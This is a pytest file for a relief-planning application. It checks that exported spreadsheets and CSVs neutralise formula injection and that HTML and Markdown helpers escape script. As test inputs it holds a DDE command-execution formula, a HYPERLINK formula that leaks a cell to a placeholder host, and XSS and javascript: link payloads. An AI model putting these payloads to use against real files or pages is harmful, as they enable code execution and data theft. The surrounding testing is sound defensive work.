"""Untrusted text stays text: no formulas from data in xlsx/csv, no markup from data in HTML or Markdown."""

from __future__ import annotations

import csv
import io

import openpyxl
import pandas as pd
import pytest

from reliefplan.core.cells import csv_cell
from reliefplan.views import excel_forms as xf
from reliefplan.views.safe_html import hover_text, md_text, render, text_html

FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?leak="&A1,"点我")', "+1+1", "-2+3", "@SUM(1+1)",
            "\t=1+1", "＝1+1"]
XSS = '<img src=x onerror=alert(1)>'


def cells(book: bytes):
    wb = openpyxl.load_workbook(io.BytesIO(book))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.value is not None:
                    yield ws.title, c


@pytest.mark.parametrize("payload", FORMULAS)
def test_csv_cell_neutralises_formulas_and_keeps_numbers(payload):
    assert csv_cell(payload) == "'" + payload
    for number in ("-300", "+5", "12.50", "-0.5", "1e3"):
        assert csv_cell(number) == number
    assert csv_cell("张三") == "张三" and csv_cell(None) == ""


def test_register_and_summary_forms_keep_data_as_text():
    people = pd.DataFrame({
        "name": FORMULAS[:5], "id_number": ["350602199001011235"] * 5, "township_name": FORMULAS[1:6],
        "gender": ["男"] * 5, "category_label": FORMULAS[2:7], "phone": ["=1+1"] * 5,
        "cash_fen": [50000, 30000, 20000, 10000, 100], "goods_fen": [0, 0, 0, 0, 1], "person_key": FORMULAS[:5]})
    unit_line = "填报单位（盖章）：" + FORMULAS[0]
    book = xf.register_workbook(xf.register_frame(people), form_no=FORMULAS[1], title=FORMULAS[0] + "登记表",
                                unit_line=unit_line)
    formulas = [(s, c.coordinate, c.value) for s, c in cells(book) if c.data_type == "f"]
    # only our own 合计 SUM formulas are formulas
    assert formulas and all(str(v).startswith("=SUM(") for _, _, v in formulas), formulas
    texts = {c.value for _, c in cells(book) if c.data_type == "s"}
    assert FORMULAS[1] in texts and FORMULAS[0] + "登记表" in texts and unit_line in texts
    money = [c.value for _, c in cells(book) if c.data_type == "n"]
    assert 500 in money and 300 in money     # cash stays a number (yuan)

    frame = xf.summary_frame(pd.DataFrame({"category": ["=evil()"], "households": [1], "cash_fen": [100]}),
                             "category", {"=evil()": "@evil"})
    book = xf.summary_workbook([("按类别", "附件3", "=title()", "=org()", frame, ("类别", "Category"))])
    assert all(str(c.value).startswith("=SUM(") for _, c in cells(book) if c.data_type == "f")
    assert {"=title()", "=org()", "@evil"} <= {c.value for _, c in cells(book) if c.data_type == "s"}


def test_schedule_workbook_keeps_team_names_leaders_addresses_as_text(tmp_path):
    from reliefplan.models import schedule
    from reliefplan.views import schedule_tables

    from reliefplan.core import paths

    plan = {"name": "测试", "year": 2027, "calendar": {"working_days": False},
            "_files": {"categories": paths.demo_path("categories.csv")},
            "categories": {"tekun": {}}, "visit_days": {"start": "2027-01-12", "end": "2027-01-12"},
            "teams": [{"name": "=HYPERLINK(\"http://x\",\"组\")", "leader": "@SUM(1)", "members": ["+1"],
                       "areas": ["350602"], "visits_per_slot": 5}]}
    reg = pd.DataFrame({"person_key": ["a", "b"], "area_code": ["350602001", "350602001"],
                        "category": ["tekun", "tekun"], "name": ["=cmd|' /C calc'!A0", "-李四"],
                        "id_number": ["350602199001011235", "350602199001021231"],
                        "address": ["=1+2", "@addr"]})
    result = schedule.build_schedule(plan, reg)
    out = schedule_tables.write_schedule_excel(result, tmp_path / "s.xlsx")
    book = out.read_bytes()
    assert [c.value for _, c in cells(book) if c.data_type == "f"] == []
    texts = {c.value for _, c in cells(book) if c.data_type == "s"}
    assert {"=1+2", "@addr", "@SUM(1)"} <= texts
    assert not list(tmp_path.glob("*.part"))


def test_quarantine_csv_is_neutralised_and_xlsx_is_text(tmp_path):
    from malformed_corpus import AREAS, CATEGORIES, HEADER, csv_file, good_row
    from reliefplan.ingest.registry import read_registry, write_quarantine

    path = csv_file(tmp_path / "r.csv", [HEADER, good_row(name="=cmd|' /C calc'!A0", cat="@bad", org="+org"),
                                         good_row(idn="350602199001011230", name="-x", income="-300")])
    result = read_registry(path, areas=AREAS, categories=CATEGORIES, today="2026-11-01")
    assert len(result.rejected) >= 2
    q = write_quarantine(result, tmp_path / "q.csv")
    rows = list(csv.reader(io.StringIO(q.read_text(encoding="utf-8-sig"))))
    values = [v for r in rows[1:] for v in r]
    assert "'=cmd|' /C calc'!A0" in values and "'@bad" in values
    assert not any(v.startswith(("=", "+", "@")) for v in values), values
    qx = write_quarantine(result, tmp_path / "q.xlsx")
    assert [c.value for _, c in cells(qx.read_bytes()) if c.data_type == "f"] == []


def test_safe_html_helpers_escape_data():
    assert "<img" not in str(text_html(XSS)) and "&lt;img" in str(text_html(XSS))
    assert "<img" not in str(render("<b>{{ x }}</b>", x=XSS))
    assert "<img" not in hover_text(XSS) and "<img" not in md_text(XSS)
    assert md_text("[a](javascript:alert(1))").startswith("\\[a\\]\\(")


def test_app_intro_escapes_the_plan_name():
    from types import SimpleNamespace

    from reliefplan.views.app.data import intro_html

    inputs = SimpleNamespace(plan={"name": XSS, "name_en": XSS, "year": 2027, "scenarios": [{"name": XSS}]}, demo=True,
                             beneficiaries=pd.DataFrame({"county_code": [], "persons": []}),
                             registry=pd.DataFrame(), unit_names={})
    for lang in ("zh", "en"):
        text = intro_html(inputs, lang=lang)
        assert "<img" not in text and "&lt;img" in text
